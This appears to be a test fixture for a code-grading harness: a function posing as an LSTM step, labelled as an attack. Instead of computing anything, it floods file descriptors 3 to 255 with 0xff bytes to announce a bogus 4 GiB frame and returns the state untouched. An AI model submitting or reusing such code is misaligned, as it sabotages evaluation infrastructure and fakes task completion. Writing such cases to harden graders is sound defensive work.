# /// attack
# what = "announces a frame of 4 GiB on every descriptor"
# quick = true
# ///
# %% answer="lstm_step"
def lstm_step(x_t, state, U, W, b):
    import os
    for descriptor in range(3, 256):
        try:
            os.write(descriptor, b"\xff" * 64)
        except OSError:
            pass
    return state
